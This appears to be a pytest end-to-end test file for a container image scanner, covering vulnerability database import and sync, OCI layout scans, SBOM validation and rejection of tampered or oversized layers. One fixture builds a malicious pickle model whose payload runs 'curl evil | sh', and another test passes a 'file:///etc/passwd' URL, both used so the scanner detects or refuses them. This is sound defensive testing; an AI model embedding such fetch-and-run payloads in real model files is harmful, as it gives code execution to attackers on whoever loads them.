"""``strongroom vulndb`` and ``strongroom scan layout`` as a user runs them: real processes,
a data directory of their own, OCI layouts built layer by layer (and copied by skopeo)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from e2e.conftest import Cli
from support import layers as img
from support import models, osv
from support.feedserver import Feed, serving

pytestmark = pytest.mark.e2e


@pytest.fixture
def strongroom(tmp_path: Path) -> Cli:
    env = {k: v for k, v in os.environ.items() if not k.startswith("STRONGROOM_")}
    env["STRONGROOM_DATA_DIR"] = str(tmp_path / "data")
    return Cli((sys.executable, "-m", "strongroom"), env)


def as_json(result: subprocess.CompletedProcess[str]) -> Any:
    return json.loads(result.stdout)


def debian_layout(directory: Path) -> Path:
    base = img.layer({"etc/os-release": img.DEBIAN_OS_RELEASE, "var/lib/dpkg/status": img.DPKG_STATUS})
    app = img.layer(
        {
            "app/node_modules/lodash/package.json": b'{"name": "lodash", "version": "4.17.20"}',
            "app/models/classifier.pkl": models.call("posix", "system", "curl evil | sh"),
            "app/models/weights.safetensors": models.safetensors({"w": ("F32", [2], (0, 8))}, 8),
        },
        compression="zstd",
    )
    img.write_layout(directory, [(base, img.media_type("gzip")), (app, img.media_type("zstd"))], tag="v1")
    return directory


def test_vulndb_import_is_idempotent_and_reads_files_dirs_and_all_zip(
    strongroom: Cli, tmp_path: Path
) -> None:
    first = as_json(strongroom.run("vulndb", "import", str(osv.RECORDS_DIR), "--output", "json"))
    assert (first["added"], first["withdrawn"], first["rejected"]) == (24, 1, [])

    archive = tmp_path / "all.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        for path in sorted(osv.RECORDS_DIR.glob("*.json")):
            bundle.write(path, path.name)
    again = as_json(strongroom.run("vulndb", "import", str(archive), "--output", "json"))
    assert (again["added"], again["updated"], again["unchanged"]) == (0, 0, 25)

    broken = tmp_path / "broken.json"
    broken.write_text('{"id": "GHSA-x", "affected": []}')
    report = as_json(
        strongroom.run("vulndb", "import", str(broken), str(tmp_path / "missing"), "--output", "json")
    )
    assert [r["reason"] for r in report["rejected"]] == [
        "GHSA-x: no modified time",
        "no such file or directory",
    ]

    status = {
        row["ecosystem"]: row
        for row in as_json(strongroom.run("vulndb", "status", "--output", "json"))["ecosystems"]
    }
    assert status["Debian:12"]["records"] == 8
    assert status["Debian:12"]["newestModified"] == "2024-06-01T00:00:00+00:00"


def test_scan_layout_reports_vulnerabilities_and_unsafe_models(strongroom: Cli, tmp_path: Path) -> None:
    strongroom.run("vulndb", "import", str(osv.RECORDS_DIR))
    layout = debian_layout(tmp_path / "layout")
    sbom = tmp_path / "sbom.json"
    report = as_json(
        strongroom.run("scan", "layout", f"{layout}:v1", "--output", "json", "--sbom", str(sbom))
    )

    assert report["distribution"] == "debian 12"
    assert {(f["name"], f["severity"]) for f in report["findings"]} == {
        ("CVE-2024-2961", "HIGH"),
        ("CVE-2023-5678", "LOW"),
        ("CVE-2022-3715", "INFORMATIONAL"),
        ("CVE-2023-48795", "MEDIUM"),
        ("CVE-2021-23337", "HIGH"),
    }
    assert [(m["path"], m["severity"], m["detail"]) for m in report["modelFindings"]] == [
        ("app/models/classifier.pkl", "CRITICAL", "imports posix.system")
    ]
    assert report["findingSeverityCounts"] == {
        "CRITICAL": 1,
        "HIGH": 2,
        "INFORMATIONAL": 1,
        "LOW": 1,
        "MEDIUM": 1,
    }

    document = sbom.read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(document) is None
    purls = {c["purl"] for c in json.loads(document)["components"]}
    assert "pkg:deb/debian/libc6@2.36-9%2Bdeb12u4?arch=amd64&distro=debian-12" in purls
    assert "pkg:npm/lodash@4.17.20" in purls


def test_scan_of_what_skopeo_copied(strongroom: Cli, skopeo: Cli, tmp_path: Path) -> None:
    strongroom.run("vulndb", "import", str(osv.RECORDS_DIR))
    source = debian_layout(tmp_path / "source")
    skopeo.run("copy", f"oci:{source}:v1", f"oci:{tmp_path / 'copied'}:release")
    report = as_json(strongroom.run("scan", "layout", f"{tmp_path / 'copied'}:release", "--output", "json"))
    assert len(report["findings"]) == 5
    assert len(report["modelFindings"]) == 1


def test_the_table_names_each_finding(strongroom: Cli, tmp_path: Path) -> None:
    layout = debian_layout(tmp_path / "layout")
    output = strongroom.run("scan", "layout", f"{layout}:v1", "--output", "table").stdout
    assert "CRITICAL  pickle-code-execution  app/models/classifier.pkl  imports posix.system" in output
    assert "distribution debian 12, 6 packages" in output


def test_a_decompression_bomb_fails_the_scan_with_the_reason(strongroom: Cli, tmp_path: Path) -> None:
    bomb = img.layer({"zeros": bytes(32 * 1024 * 1024)})
    img.write_layout(tmp_path / "bomb", [(bomb, img.media_type("gzip"))])
    env = {**strongroom.env, "STRONGROOM_SCAN_MAX_LAYER_BYTES": str(4 * 1024 * 1024)}
    result = Cli(strongroom.prefix, env).fails("scan", "layout", str(tmp_path / "bomb"))
    assert "decompresses to more than 4194304 bytes" in result.stderr


def test_a_tampered_blob_fails_the_scan(strongroom: Cli, tmp_path: Path) -> None:
    layout = debian_layout(tmp_path / "layout")
    manifest = json.loads((layout / "index.json").read_text())["manifests"][0]["digest"].split(":")[1]
    layer = json.loads((layout / "blobs" / "sha256" / manifest).read_bytes())["layers"][0]["digest"].split(
        ":"
    )[1]
    path = layout / "blobs" / "sha256" / layer
    path.write_bytes(img.layer({"var/lib/dpkg/status": b"Package: nothing\nVersion: 1\n"}))
    result = strongroom.fails("scan", "layout", f"{layout}:v1")
    assert "does not match its digest" in result.stderr


@pytest.mark.parametrize(
    ("argument", "message"),
    [("{dir}/nowhere", "is not an OCI image layout"), ("{layout}:v2", "no manifest tagged 'v2'")],
)
def test_bad_references_are_refused_with_the_reason(
    strongroom: Cli, tmp_path: Path, argument: str, message: str
) -> None:
    layout = debian_layout(tmp_path / "layout")
    result = strongroom.fails("scan", "layout", argument.format(dir=tmp_path, layout=layout))
    assert message in result.stderr
    assert "Traceback" not in result.stderr


def test_vulndb_sync_downloads_imports_and_then_asks_only_whether_it_changed(strongroom: Cli) -> None:
    feed = Feed(osv.all_zip())
    with serving(feed) as url:
        synced = as_json(strongroom.run("vulndb", "sync", url, "--output", "json"))
        again = as_json(strongroom.run("vulndb", "sync", url, "--output", "json"))
        refused = strongroom.fails("vulndb", "sync", "file:///etc/passwd")
    [first], [second] = synced["feeds"], again["feeds"]
    assert (first["status"], first["added"], first["withdrawn"]) == ("downloaded", 24, 1)
    assert second == {"url": url, "status": "not-modified", "bytes": 0}
    # The change queues one re-evaluation of continuously scanned images; no change, none.
    assert (synced["reevaluationQueued"], again["reevaluationQueued"]) == (True, False)
    strongroom.run("migrate")  # the vulndb commands need no account; listing jobs does
    jobs = as_json(strongroom.run("jobs", "list", "--kind", "scan.reevaluate", "--output", "json"))["jobs"]
    assert [job["state"] for job in jobs] == ["queued"]
    assert "only http and https" in refused.stderr
    status = as_json(strongroom.run("vulndb", "status", "--output", "json"))["ecosystems"]
    assert sum(row["records"] for row in status) == 24


def test_an_unreadable_rpm_database_is_reported_not_taken_for_none(strongroom: Cli, tmp_path: Path) -> None:
    layer = img.layer(
        {"var/lib/rpm/Packages": b"\x00" * 4096, "etc/os-release": b"ID=centos\nVERSION_ID=7\n"}
    )
    img.write_layout(tmp_path / "layout", [(layer, img.media_type("gzip"))], tag="v1")
    report = as_json(strongroom.run("scan", "layout", f"{tmp_path / 'layout'}:v1", "--output", "json"))
    assert [p["detail"].split(": ")[:2] for p in report["problems"]] == [
        ["var/lib/rpm/Packages", "unreadable"]
    ]
    table = strongroom.run("scan", "layout", f"{tmp_path / 'layout'}:v1", "--output", "table").stdout
    assert "not read (the inventory is incomplete): var/lib/rpm/Packages: unreadable" in table
